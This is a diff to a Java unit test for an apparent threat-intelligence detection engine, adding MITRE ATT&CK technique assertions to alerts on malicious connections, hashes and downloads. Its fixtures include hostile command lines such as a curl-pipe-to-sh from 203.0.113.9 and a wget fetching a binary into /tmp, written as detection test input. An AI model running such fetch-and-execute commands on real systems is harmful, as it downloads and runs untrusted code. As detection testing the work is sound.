@@ -84,6 +84,7 @@ class ThreatIntelDetectionTest {
       assertThat(a.description()).isEqualTo("Outbound connection from /usr/bin/curl (pid 42) to 203.0.113.50:443/tcp: RemoteAddress"
           + " 203.0.113.50 matches threat-intelligence indicator ip 203.0.113.0/24 from 'Example CERT' (confidence 80, tags: c2, botnet).");
       assertThat(a.tactics()).containsExactly("CommandAndControl");
+      assertThat(a.techniques()).containsExactly("T1071", "T0869");
     });
     // Inbound from a listed address is as telling.
     assertThat(run(connections(T, conn("::ffff:203.0.113.9", "51000", Direction.IN, Map.of()))))
@@ -114,6 +115,8 @@ class ThreatIntelDetectionTest {
       assertThat(a.entities()).containsEntry("DomainName", "cdn.Evil.Example.");
       assertThat(a.extendedProperties()).containsEntry("IndicatorSource", "DNS blocklist").containsEntry("IndicatorValue", "evil.example")
           .containsEntry("MatchedField", "RemoteHostName").containsEntry("IndicatorTags", "phishing");
+      assertThat(a.tactics()).containsExactly("CommandAndControl");
+      assertThat(a.techniques()).containsExactly("T1071.004", "T0869");
     });
     assertThat(run(connections(T, conn("192.0.2.80", "53", Direction.OUT, Map.of("DnsQuery", "evil.example")))))
         .extracting(Alert::alertName).containsExactly("IoT_MaliciousNameQueriesDetection");
@@ -133,7 +136,7 @@ class ThreatIntelDetectionTest {
       assertThat(a.entities()).containsEntry("Process", "/tmp/x").containsEntry("FileHash", EICAR.toUpperCase());
       assertThat(a.extendedProperties()).containsEntry("IndicatorSource", "Hash feed").containsEntry("MatchedField", "Executable SHA-256");
       assertThat(a.tactics()).containsExactly("Execution");
-      assertThat(a.techniques()).isEmpty();
+      assertThat(a.techniques()).containsExactly("T1204.002", "T0863");
     });
     assertThat(run(processes(proc("/usr/bin/wget", "wget -q 'HTTP://dl.example:80/bins/x86' -O /tmp/x", Map.of()))))
         .singleElement().satisfies(a -> {
@@ -141,6 +144,12 @@ class ThreatIntelDetectionTest {
           assertThat(a.extendedProperties()).containsEntry("IndicatorSource", "URL feed").containsEntry("MatchedField", "CommandLine URL");
           assertThat(a.techniques()).containsExactly("T1105");
           assertThat(a.tactics()).containsExactly("CommandAndControl");
+        });
+    // A known-bad executable that downloads from a listed URL: both.
+    assertThat(run(processes(proc("/tmp/x", "/tmp/x http://dl.example/bins/x86", Map.of("Sha256", EICAR))))).singleElement()
+        .satisfies(a -> {
+          assertThat(a.tactics()).containsExactly("Execution", "CommandAndControl");
+          assertThat(a.techniques()).containsExactly("T1204.002", "T0863", "T1105");
         });
     // The URL itself is not listed, but its host is.
     assertThat(run(processes(proc("/bin/sh", "sh -c curl http://203.0.113.9/a.sh|sh", Map.of())))).singleElement().satisfies(a ->
@@ -163,6 +172,7 @@ class ThreatIntelDetectionTest {
           .containsEntry("Device", "gw-1");
       assertThat(a.description()).startsWith("File /opt/app/x was created: File SHA-256 " + EICAR + " matches");
       assertThat(a.extendedProperties()).containsEntry("IndicatorSource", "Hash feed");
+      assertThat(a.techniques()).containsExactly("T1204.002", "T0863");
     });
   }
 
